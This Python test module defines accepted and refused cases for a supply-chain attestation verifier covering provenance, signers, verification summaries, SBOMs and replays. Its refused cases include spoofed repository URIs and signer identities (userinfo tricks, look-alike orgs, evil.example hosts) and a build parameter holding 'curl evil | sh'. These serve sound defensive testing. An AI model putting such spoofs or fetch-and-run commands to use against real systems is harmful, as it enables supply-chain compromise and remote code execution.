"""Named cases of policies and evidence, good and bad; each bad one names the check that has to refuse it."""

from __future__ import annotations

import json
from dataclasses import dataclass
from datetime import UTC, datetime
from typing import TYPE_CHECKING

from tests.sigstore.order import COMMIT, GITHUB, WORKFLOW, Order
from tests.verify.laboratory import (
    BUILD,
    CYCLONEDX,
    KEYS,
    NAME,
    NOW,
    PROVENANCE,
    REPLAY,
    RULE,
    SBOM,
    SHA,
    SHA_2,
    SUMMARY,
    TEST_RESULT,
    V1,
    VSA,
    build,
    by,
    changed,
    statement,
)

from repro.attest.dsse import IN_TOTO, MAX_OBJECTS
from repro.attest.signing import KeySigner
from repro.core.exits import Exit

if TYPE_CHECKING:
    from collections.abc import Callable

    from tests.sigstore.world import PrivateSigstore

    Maker = Callable[[PrivateSigstore], list[bytes]]

DEFINITION = "buildDefinition"
EXTERNAL = (DEFINITION, "externalParameters")
DEPENDENCIES = (DEFINITION, "resolvedDependencies")
URI = (*DEPENDENCIES, 0, "uri")
LAB = "git+https://github.com/example/lab"

SIGNED = RULE + '[artifacts.demands.any]\nkind = "signed"\nsigners = ["a"]\n'
TWO = RULE + '[artifacts.demands.any]\nkind = "signed"\nsigners = ["a", "b"]\nthreshold = 2\n'
ONLY = RULE + BUILD
VSA_RULE = (
    RULE
    + """
[artifacts.demands.summary]
kind = "vsa"
signers = ["a"]
verifiers = ["https://verifier.example"]
resource_uri = "pkg:generic/{name}"
levels = ["SLSA_BUILD_LEVEL_2"]
"""
)
REPLAY_RULE = (
    RULE + '[artifacts.demands.replay]\nkind = "replay"\nsigners = ["a"]\nexperiments = ["branin"]\n'
)
SBOM_RULE = RULE + '[artifacts.demands.sbom]\nkind = "sbom"\nsigners = ["a"]\n'
AGED = RULE + '[artifacts.demands.any]\nkind = "signed"\nsigners = ["release"]\nmax_age_days = 30\n'
INDEPENDENT = (
    RULE + '[artifacts.demands.built]\nkind = "provenance"\nbuilders = ["one", "two"]\nindependent = 2\n'
)
AGREE = (
    RULE.rstrip()
    + """
agree = [["build:/predicate/buildDefinition/resolvedDependencies/0/digest/gitCommit",
  "replay:/predicate/repro_replay/conditions/commit"]]
"""
    + BUILD
    + '[artifacts.demands.replay]\nkind = "replay"\nsigners = ["a"]\n'
)
LINKED = (
    RULE
    + """
[artifacts.demands.release]
kind = "release"
signers = ["a"]
[artifacts.demands.replay]
kind = "replay"
signers = ["b"]
linked_by = "release"
"""
)
HOSTED = RULE + BUILD.replace('"one"', '"hosted"')


THREE = """
[builders.three]
id = "https://builder.example/two"
signers = ["a"]
level = 2
operator = "three"
"""


@dataclass(frozen=True, slots=True, kw_only=True)
class Case:
    """A policy's demands, the evidence for one artifact, and what must come of it."""

    name: str
    demands: str
    make: Maker
    refused_by: str = ""
    exit: Exit = Exit.WRONG
    now: datetime = NOW
    artifact: str = NAME
    sha256: str = SHA


def of(*bundles: bytes) -> Maker:
    """Evidence that needs no Sigstore."""
    return lambda _: list(bundles)


def replayed(*path: str | int, to: object = None, key: str = "a") -> bytes:
    """A signed replay with one value changed."""
    return by(key, statement(changed(REPLAY, *path, to=to) if path else REPLAY, TEST_RESULT))


def summary(*path: str | int, to: object = None, key: str = "a") -> bytes:
    """A signed verification summary with one value changed."""
    return by(key, statement(changed(SUMMARY, *path, to=to) if path else SUMMARY, VSA))


def refused() -> bytes:
    """A verification summary that says no, and no level, as Macaron writes them."""
    predicate = changed(changed(SUMMARY, "verificationResult", to="FAILED"), "verifiedLevels", to=[])
    return by("a", statement(predicate, VSA))


def sbom(*path: str | int, to: object = None) -> bytes:
    """A signed SBOM with one value changed."""
    return by("a", statement(changed(SBOM, *path, to=to) if path else SBOM, CYCLONEDX))


def at(world: PrivateSigstore, when: datetime, order: Order) -> bytes:
    """A bundle by an identity, signed at a time."""
    before, world.now = world.now, when
    try:
        return world.sign(order)
    finally:
        world.now = before


def hosted(
    world: PrivateSigstore,
    *path: str | int,
    to: object = None,
    identity: str = WORKFLOW,
    issuer: str = GITHUB,
) -> list[bytes]:
    """Provenance by the workflow on GitHub."""
    made = changed(PROVENANCE, "runDetails", "builder", "id", to="https://builder.example/hosted")
    made = changed(made, *URI, to=f"{LAB}@refs/tags/v1.0.0")
    made = changed(made, *path, to=to) if path else made
    return [world.sign(Order(payload=statement(made), identity=identity, issuer=issuer))]


RELEASED = replayed(key="b")
OTHER_REPLAY = by("b", statement(REPLAY, TEST_RESULT, sha256="34" * 32))


def release(*payloads: bytes) -> bytes:
    """A release that links statements by their digests."""
    import hashlib

    links = [{"name": "x", "digest": {"sha256": hashlib.sha256(one).hexdigest()}} for one in payloads]
    predicate = {"purl": "pkg:pypi/lab@1.0", "repro_attestations": links}
    return by("a", statement(predicate, "https://in-toto.io/attestation/release/v0.1"))


def enveloped(payload: bytes, kind: str = IN_TOTO) -> bytes:
    """A good signature over whatever is given, as whatever it is called."""
    return KeySigner(key=KEYS["a"]).envelope(payload, kind)


def two(key: str = "b", builder: str = "two") -> bytes:
    """Provenance by the second builder."""
    return build("runDetails", "builder", "id", to=f"https://builder.example/{builder}", key=key)


JANUARY = datetime(2026, 1, 15, 12, tzinfo=UTC)
OLD = datetime(2025, 6, 1, 12, tzinfo=UTC)

GOOD = (
    Case(name="signed", demands=SIGNED, make=of(build())),
    Case(name="provenance", demands=ONLY, make=of(build())),
    Case(
        name="commit-called-sha1",
        demands=ONLY,
        make=of(build(*DEPENDENCIES, 0, "digest", to={"sha1": COMMIT})),
    ),
    Case(name="good-beside-bad", demands=ONLY, make=of(b"{", build(), build(key="c"))),
    Case(name="hosted", demands=HOSTED.replace('"v1"', '"v1.0.0"'), make=hosted),
    Case(name="two-signers", demands=TWO, make=of(build(), build(key="b"))),
    Case(name="independent", demands=INDEPENDENT, make=of(build(), two())),
    Case(name="summary", demands=VSA_RULE, make=of(summary())),
    Case(
        name="summary-of-all-legal-levels",
        demands=VSA_RULE.replace('"SLSA_BUILD_LEVEL_2"', '"SLSA_BUILD_REPRODUCED", "SLSA_SOURCE_LEVEL_2"'),
        make=of(
            summary(
                "verifiedLevels",
                to=[
                    "SLSA_BUILD_LEVEL_UNEVALUATED",
                    "SLSA_BUILD_REPRODUCED",
                    "SLSA_SOURCE_TWO_PARTY_REVIEWED",
                    "SLSA_SOURCE_LEVEL_3",
                    "EXAMPLE_SCANNED",
                ],
            )
        ),
    ),
    Case(name="replay", demands=REPLAY_RULE, make=of(replayed())),
    Case(
        name="replay-after-a-refusal",
        demands=REPLAY_RULE.replace('"a"', '"release"'),
        make=lambda world: [
            at(world, OLD, Order(payload=statement(changed(REPLAY, "result", to="FAILED"), TEST_RESULT))),
            at(world, JANUARY, Order(payload=statement(REPLAY, TEST_RESULT))),
        ],
    ),
    Case(name="sbom", demands=SBOM_RULE + 'allow_licences = ["MIT"]\n', make=of(sbom())),
    Case(name="agree", demands=AGREE, make=of(build(), replayed())),
    Case(
        name="linked",
        demands=LINKED,
        make=of(release(statement(REPLAY, TEST_RESULT, sha256="34" * 32)), OTHER_REPLAY),
    ),
    Case(name="young", demands=AGED, make=hosted),
)
"""Accepted, each exit 0."""


def source(name: str, uri: str, demands: str = ONLY, refused_by: str = "source") -> Case:
    """Provenance that names another source."""
    return Case(name=name, demands=demands, make=of(build(*URI, to=uri)), refused_by=refused_by)


SOURCES = (
    source("branch-named-like-a-tag", f"{LAB}@refs/heads/v1"),
    source("branch-named-like-a-whole-tag", f"{LAB}@refs/heads/refs/tags/v1"),
    source("short-ref", f"{LAB}@v1"),
    source("other-tag", f"{LAB}@refs/tags/v10"),
    source("no-ref", LAB),
    source("org-evil", "git+https://github.com/example-evil/lab@refs/tags/v1"),
    source("repository-with-a-longer-name", "git+https://github.com/example/lab-evil@refs/tags/v1"),
    source("fork-of-the-same-name", "git+https://github.com/mallory/lab@refs/tags/v1"),
    source("other-case", "git+https://github.com/Example/lab@refs/tags/v1"),
    source("trailing-slash", f"{LAB}/@refs/tags/v1"),
    source("userinfo", "git+https://github.com@evil.example/example/lab@refs/tags/v1"),
    source("host-behind-userinfo", "git+https://github.com:x@evil.example/example/lab@refs/tags/v1"),
    source("other-host", "git+https://githubXcom/example/lab@refs/tags/v1"),
    source("address-in-a-query", "git+https://evil.example/?u=https://github.com/example/lab@refs/tags/v1"),
    source("dots", "git+https://github.com/example/x/../lab@refs/tags/v1"),
    source("encoded", "git+https://github.com/example/%6cab@refs/tags/v1"),
    source("no-tls", "git+http://github.com/example/lab@refs/tags/v1"),
    source("no-address", "lab"),
)

BAD = (
    *SOURCES,
    Case(name="nothing", demands=SIGNED, make=of(), refused_by="evidence", exit=Exit.NOT_CHECKED),
    Case(name="other-signer", demands=SIGNED, make=of(build(key="b")), refused_by="signature"),
    Case(name="no-rule", demands=SIGNED, make=of(build()), artifact="lab.tar", refused_by="rule"),
    Case(name="other-artifact", demands=SIGNED, make=of(build()), sha256=SHA_2, refused_by="subject"),
    Case(
        name="report-in-place-of-provenance",
        demands=ONLY,
        refused_by="present",
        make=of(by("a", statement(PROVENANCE, "https://example.org/vulnerabilities/v1"))),
    ),
    Case(
        name="statement-of-another-type",
        refused_by="present",
        make=of(build()),
        demands=SIGNED.replace('"signed"', '"statement"')
        + 'predicate_types = ["https://slsa.dev/provenance/v1.0"]\n',
    ),
    Case(
        name="signer-of-another-demand",
        refused_by="present",
        make=of(build(), replayed()),
        demands=ONLY + '[artifacts.demands.replay]\nkind = "replay"\nsigners = ["b"]\n',
    ),
    Case(
        name="unknown-builder",
        demands=ONLY,
        refused_by="builder",
        make=of(build("runDetails", "builder", "id", to="https://builder.example/one/")),
    ),
    Case(
        name="empty-builder",
        demands=ONLY,
        refused_by="builder",
        make=of(build("runDetails", "builder", "id", to="")),
    ),
    Case(
        name="builder-of-another-signer",
        demands=ONLY.replace('["one"]', '["one", "two"]'),
        make=of(build(key="b")),
        refused_by="builder",
    ),
    Case(
        name="level-too-low",
        demands=ONLY.replace('["one"]', '["one", "two"]'),
        make=of(two()),
        refused_by="builder",
    ),
    Case(
        name="level-claimed-in-the-predicate",
        demands=ONLY.replace('["one"]', '["one", "two"]'),
        make=of(
            by(
                "b",
                statement(
                    changed(
                        PROVENANCE,
                        "runDetails",
                        to={
                            "builder": {
                                "id": "https://builder.example/two",
                                "level": 3,
                                "version": {"slsa": "3"},
                            }
                        },
                    )
                ),
            )
        ),
        refused_by="builder",
    ),
    Case(name="no-build-definition", demands=ONLY, make=of(build(DEFINITION)), refused_by="builder"),
    Case(
        name="other-build-type",
        demands=ONLY,
        refused_by="build type",
        make=of(build(DEFINITION, "buildType", to="https://example.org/make/v1/")),
    ),
    Case(
        name="unknown-parameter",
        demands=ONLY,
        refused_by="external parameters",
        make=of(build(*EXTERNAL, "shell", to="curl evil | sh")),
    ),
    Case(
        name="parameter-of-another-value",
        demands=ONLY,
        refused_by="external parameters",
        make=of(build(*EXTERNAL, "target", to="all ")),
    ),
    Case(
        name="parameter-missing",
        demands=ONLY,
        make=of(build(*EXTERNAL, to={})),
        refused_by="external parameters",
    ),
    Case(
        name="parameter-of-another-kind",
        demands=ONLY,
        refused_by="external parameters",
        make=of(build(*EXTERNAL, "level", to=True)),
    ),
    Case(
        name="parameter-that-a-pattern-only-begins",
        demands=ONLY,
        refused_by="external parameters",
        make=of(build(*EXTERNAL, "profile", to="release\n")),
    ),
    Case(
        name="no-source",
        demands=ONLY,
        make=of(build(*DEPENDENCIES, to=[{"name": "x", "digest": {"sha256": SHA_2}}])),
        refused_by="source",
    ),
    Case(
        name="dirty-tree",
        demands=ONLY,
        refused_by="source",
        make=of(build(*DEPENDENCIES, 0, "annotations", to={"dirty": True})),
    ),
    Case(
        name="other-commit", demands=ONLY + f'commit = "{"0" * 40}"\n', make=of(build()), refused_by="source"
    ),
    Case(
        name="no-commit",
        demands=ONLY + f'commit = "{COMMIT}"\n',
        make=of(build(*DEPENDENCIES, 0, "digest", to={"sha256": SHA_2})),
        refused_by="source",
    ),
    source(
        "tag-beside-the-pattern",
        f"{LAB}@refs/tags/v2",
        ONLY.replace('tag = "v1"', 'tag_pattern = "v1[.0-9]*"'),
    ),
    Case(
        name="two-sources",
        demands=ONLY.replace('build_types = ["make"]', ""),
        refused_by="source",
        make=of(
            build(
                *EXTERNAL,
                "workflow",
                to={"repository": "https://github.com/mallory/lab", "ref": "refs/tags/v1"},
            )
        ),
    ),
    Case(
        name="certificate-of-another-source",
        demands=HOSTED,
        make=lambda world: hosted(world, *URI, to=f"{LAB}@refs/tags/v1"),
        refused_by="source",
    ),
    Case(
        name="dependency-without-a-digest",
        demands=ONLY,
        make=of(build(*DEPENDENCIES, 1, "digest", to={"md5": "0" * 32})),
        refused_by="dependencies",
    ),
    Case(
        name="no-dependencies",
        demands=ONLY.replace('source = "https://github.com/example/lab"\ntag = "v1"\n', ""),
        make=of(build(*DEPENDENCIES, to=[])),
        refused_by="dependencies",
    ),
    Case(name="one-of-two-signers", demands=TWO, make=of(build()), refused_by="threshold"),
    Case(
        name="one-signer-twice",
        demands=TWO,
        make=of(build(), build(*EXTERNAL, "target", to="x")),
        refused_by="threshold",
    ),
    Case(
        name="one-key-under-two-names",
        refused_by="threshold",
        make=of(build()),
        demands=TWO.replace('["a", "b"]', '["a", "again"]').replace(
            "[[artifacts]]", '[signers.again]\nkey = "a.pub"\n[[artifacts]]'
        ),
    ),
    Case(name="one-operator", demands=INDEPENDENT, make=of(build()), refused_by="independent"),
    Case(
        name="one-operator-twice",
        demands=INDEPENDENT,
        make=of(build(), build(*EXTERNAL, "target", to="x")),
        refused_by="independent",
    ),
    Case(
        name="one-signer-of-two-operators",
        refused_by="independent",
        make=of(build(), two(key="a")),
        demands=INDEPENDENT.replace('"two"]', '"three"]').replace(
            "[[artifacts]]",
            THREE + "[[artifacts]]",
        ),
    ),
    Case(
        name="summary-by-another-verifier",
        demands=VSA_RULE,
        refused_by="verifier",
        make=of(summary("verifier", "id", to="https://verifier.example.evil")),
    ),
    Case(
        name="summary-from-the-future",
        demands=VSA_RULE,
        make=of(summary("timeVerified", to="2027-01-01T00:00:00Z")),
        refused_by="verifier",
    ),
    Case(
        name="summary-without-resource",
        demands=VSA_RULE,
        make=of(summary("resourceUri")),
        refused_by="verifier",
    ),
    Case(
        name="summary-without-levels",
        demands=VSA_RULE,
        make=of(summary("verifiedLevels")),
        refused_by="verifier",
    ),
    Case(
        name="summary-of-no-level",
        demands=VSA_RULE,
        make=of(summary("verifiedLevels", to=[])),
        refused_by="verifier",
    ),
    Case(
        name="summary-of-another-resource",
        demands=VSA_RULE,
        make=of(summary("resourceUri", to="pkg:generic/lab-1.0-arm64.whl")),
        refused_by="resource",
    ),
    Case(
        name="summary-by-another-policy",
        demands=VSA_RULE + f'policy_sha256 = "{"0" * 64}"\n',
        make=of(summary()),
        refused_by="verifier's policy",
    ),
    Case(
        name="summary-that-failed",
        demands=VSA_RULE,
        make=of(summary("verificationResult", to="FAILED")),
        refused_by="result",
    ),
    Case(
        name="summary-of-a-lower-level",
        demands=VSA_RULE,
        make=of(summary("verifiedLevels", to=["SLSA_BUILD_LEVEL_1"])),
        refused_by="levels",
    ),
    Case(
        name="summary-of-another-track",
        demands=VSA_RULE,
        make=of(summary("verifiedLevels", to=["SLSA_SOURCE_LEVEL_3"])),
        refused_by="levels",
    ),
    Case(
        name="summary-of-an-unknown-level",
        demands=VSA_RULE,
        make=of(summary("verifiedLevels", to=["SLSA_BUILD_LEVEL_33"])),
        refused_by="levels",
    ),
    Case(
        name="summary-whose-digests-are-pooled",
        demands=VSA_RULE,
        refused_by="subject",
        make=of(
            by(
                "a",
                statement(
                    SUMMARY,
                    VSA,
                    subjects=[
                        {"name": "x", "digest": {"sha256": SHA_2}},
                        {"name": NAME, "digest": {"sha512": "0" * 128}},
                    ],
                ),
            )
        ),
    ),
    Case(
        name="summary-with-a-refusal-beside",
        demands=VSA_RULE,
        refused_by="no refusal",
        make=of(summary(), summary("verificationResult", to="FAILED")),
    ),
    Case(
        name="summary-with-a-refusal-without-levels-beside",
        demands=VSA_RULE,
        refused_by="no refusal",
        make=of(summary(), refused()),
    ),
    Case(
        name="refusal-where-anything-will-do",
        demands=SIGNED,
        refused_by="says yes",
        make=of(summary("verificationResult", to="FAILED")),
    ),
    Case(
        name="failed-test-where-anything-will-do",
        demands=SIGNED,
        make=of(replayed("result", to="FAILED")),
        refused_by="says yes",
    ),
    Case(
        name="replay-that-drifted",
        demands=REPLAY_RULE,
        make=of(replayed("result", to="FAILED")),
        refused_by="replay passed",
    ),
    Case(
        name="replay-with-warnings",
        demands=REPLAY_RULE,
        make=of(replayed("result", to="WARNED")),
        refused_by="replay passed",
    ),
    Case(
        name="replay-of-another-experiment",
        demands=REPLAY_RULE,
        refused_by="experiment",
        make=of(replayed("repro_replay", "experiment", to="noise")),
    ),
    Case(
        name="replay-of-one-of-two",
        demands=REPLAY_RULE.replace('"branin"]', '"branin", "noise"]'),
        make=of(replayed()),
        refused_by="experiments",
    ),
    Case(
        name="replay-then-drifted",
        demands=REPLAY_RULE.replace('"a"', '"release"'),
        refused_by="no refusal",
        make=lambda world: [
            at(world, OLD, Order(payload=statement(REPLAY, TEST_RESULT))),
            at(world, JANUARY, Order(payload=statement(changed(REPLAY, "result", to="FAILED"), TEST_RESULT))),
        ],
    ),
    Case(name="sbom-of-nothing", demands=SBOM_RULE, make=of(sbom("components", to=[])), refused_by="SBOM"),
    Case(name="sbom-that-is-none", demands=SBOM_RULE, make=of(sbom("bomFormat", to="X")), refused_by="SBOM"),
    Case(
        name="sbom-that-nothing-can-be-held-against",
        demands=SBOM_RULE + "matches = true\n",
        make=of(sbom()),
        refused_by="SBOM matches",
    ),
    Case(
        name="denied-licence",
        demands=SBOM_RULE + 'deny_licences = ["MIT"]\n',
        make=of(sbom()),
        refused_by="licences",
    ),
    Case(
        name="vulnerabilities-that-cannot-be-checked",
        demands=SBOM_RULE + 'max_severity = "high"\n',
        make=of(sbom()),
        refused_by="vulnerabilities",
    ),
    Case(
        name="commits-that-disagree",
        demands=AGREE,
        make=of(build(), replayed("repro_replay", "conditions", "commit", to="0" * 40)),
        refused_by="agree",
    ),
    Case(
        name="field-that-is-missing",
        demands=AGREE,
        make=of(build(), replayed("repro_replay", "conditions", to={"x": COMMIT})),
        refused_by="agree",
    ),
    Case(name="unlinked", demands=LINKED, make=of(release(b"other"), OTHER_REPLAY), refused_by="present"),
    Case(name="too-old", demands=AGED, make=hosted, now=datetime(2026, 3, 1, tzinfo=UTC), refused_by="age"),
    Case(
        name="old-build-signed-again",
        demands=AGED,
        refused_by="age",
        make=lambda world: hosted(world, "runDetails", "metadata", to={"finishedOn": "2025-01-01T00:00:00Z"}),
    ),
    Case(
        name="signed-in-the-future",
        demands=AGED,
        make=hosted,
        now=datetime(2026, 1, 1, tzinfo=UTC),
        refused_by="age",
    ),
    Case(name="nobody-says-when", demands=AGED.replace("release", "a"), make=of(build()), refused_by="age"),
    Case(
        name="identity-with-a-longer-ref",
        demands=AGED,
        refused_by="identity",
        make=lambda world: hosted(
            world,
            identity="https://github.com/example/lab/.github/workflows/release.yml@refs/tags/v1.0.0-evil",
        ),
    ),
    Case(
        name="identity-of-another-org",
        demands=AGED,
        refused_by="identity",
        make=lambda world: hosted(
            world,
            identity="https://github.com/example-evil/lab/.github/workflows/release.yml@refs/tags/v1.0.0",
        ),
    ),
    Case(
        name="right-identity-wrong-issuer",
        demands=AGED,
        refused_by="identity",
        make=lambda world: hosted(world, issuer="https://token.actions.githubusercontent.com.evil.example"),
    ),
    Case(name="only-unknown-lines", demands=SIGNED, make=of(b"{}", b"[]", b"hello"), refused_by="form"),
    Case(
        name="signature-over-something-else",
        demands=SIGNED,
        refused_by="signature",
        make=of(
            json.dumps(
                changed(json.loads(build()), "dsseEnvelope", "payloadType", to="application/json")
            ).encode()
        ),
    ),
    Case(
        name="dependency-by-sha1",
        demands=ONLY,
        make=of(build(*DEPENDENCIES, 1, "digest", to={"sha1": COMMIT})),
        refused_by="dependencies",
    ),
    Case(name="artifact-of-no-digest", demands=SIGNED, make=of(build()), sha256="", refused_by="artifact"),
    Case(
        name="more-objects-than-are-read",
        demands=SIGNED,
        make=of(enveloped(b'{"subject":[' + b"{}," * MAX_OBJECTS + b"{}]}")),
        refused_by="caps",
    ),
    Case(
        name="signed-as-something-else",
        demands=SIGNED,
        make=of(enveloped(statement(PROVENANCE), "application/vnd.example+json")),
        refused_by="payload type",
    ),
    Case(
        name="statement-of-another-format",
        demands=SIGNED,
        make=of(enveloped(statement(PROVENANCE).replace(b"in-toto.io/Statement/v1", b"example.org/v1"))),
        refused_by="statement",
    ),
    Case(
        name="renamed",
        demands=SIGNED.replace("[artifacts.demands", "named = true\n[artifacts.demands"),
        make=of(build()),
        artifact="lab-1.0-amd64.whl",
        refused_by="subject",
    ),
)
"""Refused, each by the check that is named."""

__all__ = ["BAD", "GOOD", "V1", "Case"]
